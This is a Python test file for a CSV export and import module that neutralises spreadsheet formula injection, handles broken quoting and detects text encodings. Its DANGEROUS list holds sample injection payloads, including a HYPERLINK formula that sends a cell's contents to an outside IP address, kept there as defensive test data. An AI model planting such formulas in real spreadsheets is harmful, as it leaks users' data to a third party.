"""CSV out and in again: nothing runs, nothing changes, a broken line costs itself only."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardian.domain.csv_text import BOM, armour, csv_bytes, csv_row, decode_csv, parse_csv, unarmour

DANGEROUS = ('=HYPERLINK("http://203.0.113.9/?"&A1,"詳")', "+886-2-2345-6789", "-1+1", "@SUM(A1)", "\t=1+1", "＝1+1")


@settings(deadline=None)
@given(st.text(max_size=20))
def test_taking_armour_off_gives_back_every_text(text: str) -> None:
    if not (text.startswith('="') and text.endswith('"')):
        assert unarmour(armour(text)) == text


@pytest.mark.parametrize("text", [*DANGEROUS, "3E-0012", "6E-8080", "MAR-2025", "1E5", "0480580", "12-11"])
def test_what_a_spreadsheet_would_run_or_change_begins_with_an_apostrophe(text: str) -> None:
    assert armour(text) == "'" + text


@pytest.mark.parametrize("text", ["BKD-8869", "048-0580", "2026-12-31", "中山分局 115-0832", "失竊", ""])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert armour(text) == text


@settings(deadline=None)
@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\x00\ufeff\r\u3000 ", exclude_categories=["Cs"]), min_size=1, max_size=12), min_size=2, max_size=2), min_size=1, max_size=8))  # fmt: skip
def test_rows_come_back_as_they_went_out(rows: list[list[str]]) -> None:
    body = b"".join(csv_bytes(["a", "b"], rows))
    text, encoding = decode_csv(body)
    back = [list(row.cells) for row in parse_csv(text)][1:]
    assert encoding == "UTF-8"
    assert [row.problem for row in parse_csv(text)] == [""] * (len(rows) + 1)
    assert back == [[unarmour_by_hand(cell) for cell in row] for row in rows]


def unarmour_by_hand(text: str) -> str:
    return (
        text[2:-1] if text.startswith('="') and text.endswith('"') and '"' not in text[2:-1] and len(text) > 2 else text
    )


@settings(deadline=None)
@given(st.lists(st.text(st.characters(exclude_characters="\x00\ufeff", exclude_categories=["Cs"]), max_size=8), min_size=1, max_size=5))  # fmt: skip
def test_other_readers_of_csv_see_the_same_cells(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_row(["x", *cells]), newline=""))
    assert row == ["x", *(armour(cell) for cell in cells)]


def test_numbers_stay_numbers() -> None:
    assert csv_row([-12.5, 3, None, "-12.5"]) == "-12.5,3,,'-12.5\r\n"


def test_the_mark_of_utf_8_comes_first_and_once() -> None:
    pieces = list(csv_bytes(["車號"], [["ABC-1235"]]))
    assert pieces[0] == BOM.encode() + "車號\r\n".encode()
    assert BOM.encode() not in b"".join(pieces[1:])


def test_a_quoted_cell_may_hold_a_line_break_and_later_rows_keep_their_true_line() -> None:
    rows = list(parse_csv('a,b\r\n1,"x\r\ny"\r\n2,z\r\n'))
    assert [(row.line, row.cells, row.problem) for row in rows] == [
        (1, ("a", "b"), ""), (2, ("1", "x\ny"), ""), (4, ("2", "z"), "")]  # fmt: skip


def test_a_quotation_mark_that_is_never_closed_costs_its_own_line_only() -> None:
    text = 'a,b\n1,"open\n2,z\n3,"good"\n4,""\n'
    assert [(row.line, row.problem) for row in parse_csv(text)] == [
        (1, ""), (2, "open-quote"), (3, ""), (4, ""), (5, "")]  # fmt: skip


@settings(deadline=None)
@given(st.text('ab,"\n;\t', max_size=60))
def test_no_text_breaks_the_reader_and_no_filled_line_is_lost(text: str) -> None:
    rows = list(parse_csv(text))
    covered = sum(row.raw.count("\n") + 1 for row in rows)
    filled = [line for line in text.split("\n") if line.strip()]
    assert covered >= len(filled)
    assert [row.line for row in rows] == sorted({row.line for row in rows})


@pytest.mark.parametrize(
    ("body", "text", "encoding"),
    [("車號".encode(), "車號", "UTF-8"), ("車號".encode("cp950"), "車號", "Big5"), (b"\xf9\xd8", "裏", "Big5"),
     ("車號".encode("utf-16"), "車號", "UTF-16")],
)  # fmt: skip
def test_the_encoding_is_found(body: bytes, text: str, encoding: str) -> None:
    assert decode_csv(body) == (text, encoding)
